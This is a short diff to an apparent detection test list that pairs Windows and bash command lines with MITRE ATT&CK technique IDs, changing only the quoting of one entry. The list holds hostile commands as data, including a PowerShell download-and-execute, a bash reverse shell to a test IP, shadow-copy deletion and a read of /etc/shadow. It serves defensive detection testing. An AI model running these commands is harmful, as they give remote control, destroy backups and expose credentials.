@@ -23,7 +23,7 @@ CASES = [
     ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "T1059.001"),
     ("cmd", "certutil -urlcache -split -f http://x/y.exe y.exe", "T1105"),
     ("cmd", "mshta javascript:alert(1)", "T1218.005"),
-    ("cmd", "schtasks /create /tn x /tr \"%temp%\\a.exe\" /sc onlogon", "T1053.005"),
+    ("cmd", 'schtasks /create /tn x /tr "%temp%\\a.exe" /sc onlogon', "T1053.005"),
     ("cmd", "vssadmin.exe delete shadows /all /quiet", "T1490"),
     ("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "T1059.004"),
     ("bash", "cat /etc/sha\\dow", "T1003.008"),
